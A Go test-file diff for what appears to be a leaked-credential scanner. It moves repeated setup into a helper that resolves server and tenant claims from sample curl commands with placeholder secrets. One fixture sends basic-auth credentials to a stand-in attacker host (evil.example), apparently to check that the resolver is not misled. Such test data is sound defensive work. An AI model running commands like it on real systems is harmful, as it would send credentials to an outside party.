@@ -131,17 +131,9 @@ func TestServersOfAll(t *testing.T) {
 		"atlassian curl -u bot:SECRET1 https://api.atlassian.com/x":                       "",
 		"httpauth curl -H 'Authorization: Basic SECRET1' https://api.acme.io/v1/x":        "api.acme.io",
 	} {
-		provider, text, _ := strings.Cut(command, " ")
-		text = strings.ReplaceAll(text, "SECRET1", password)
-		at := strings.Index(text, password)
-		p := identity.Place{Location: leak.Location{Path: "a.sh"}, Text: []byte(text), Start: at, End: at + len(password), FirstLine: 1}
-		a, err := New().Resolve(context.Background(), &identity.Query{Finding: &leak.Finding{Rule: leak.RuleInfo{Provider: provider}}, Places: []identity.Place{p}})
-		got := map[string]string{}
-		for _, e := range a.Evidence {
-			got[e.Claim] = e.Value
-		}
-		if err != nil || got[leak.ClaimServer] != want || (got[leak.ClaimTenant] != "" && got[leak.ClaimTenant] != want) {
-			t.Errorf("%s: server %q, tenant %q, %v; want %q", command, got[leak.ClaimServer], got[leak.ClaimTenant], err, want)
+		got := ofProvider(t, command)
+		if got[leak.ClaimServer] != want || (got[leak.ClaimTenant] != "" && got[leak.ClaimTenant] != want) {
+			t.Errorf("%s: server %q, tenant %q; want %q", command, got[leak.ClaimServer], got[leak.ClaimTenant], want)
 		}
 	}
 }
@@ -159,17 +151,9 @@ func TestCustomers(t *testing.T) {
 		"okta curl -H 'Authorization: SSWS SECRET1' https://acme.okta.com/api/v1/users/me":                  " acme.okta.com organization",
 		"atlassian curl -u jira-bot:SECRET1 https://evil.example/?acme.atlassian.net":                       "jira-bot  ",
 	} {
-		provider, text, _ := strings.Cut(command, " ")
-		text = strings.ReplaceAll(text, "SECRET1", password)
-		at := strings.Index(text, password)
-		p := identity.Place{Location: leak.Location{Path: "a.sh"}, Text: []byte(text), Start: at, End: at + len(password), FirstLine: 1}
-		a, err := New().Resolve(context.Background(), &identity.Query{Finding: &leak.Finding{Rule: leak.RuleInfo{Provider: provider}}, Places: []identity.Place{p}})
-		got := map[string]string{}
-		for _, e := range a.Evidence {
-			got[e.Claim] = e.Value
-		}
-		if s := got[leak.ClaimName] + " " + got[leak.ClaimTenant] + " " + got[leak.ClaimTenantKind]; err != nil || s != want {
-			t.Errorf("%s: %q, %v; want %q", command, s, err, want)
+		got := ofProvider(t, command)
+		if s := got[leak.ClaimName] + " " + got[leak.ClaimTenant] + " " + got[leak.ClaimTenantKind]; s != want {
+			t.Errorf("%s: %q, want %q", command, s, want)
 		}
 	}
 }
@@ -209,3 +193,21 @@ func FuzzFind(f *testing.F) {
 }
 
 func first(list []word, _ int) []word { return list }
+
+// ofProvider is what a command says of a credential by claim; the first word is the provider.
+func ofProvider(t *testing.T, command string) map[string]string {
+	t.Helper()
+	provider, text, _ := strings.Cut(command, " ")
+	text = strings.ReplaceAll(text, "SECRET1", password)
+	at := strings.Index(text, password)
+	p := identity.Place{Location: leak.Location{Path: "a.sh"}, Text: []byte(text), Start: at, End: at + len(password), FirstLine: 1}
+	a, err := New().Resolve(context.Background(), &identity.Query{Finding: &leak.Finding{Rule: leak.RuleInfo{Provider: provider}}, Places: []identity.Place{p}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, e := range a.Evidence {
+		got[e.Claim] = e.Value
+	}
+	return got
+}
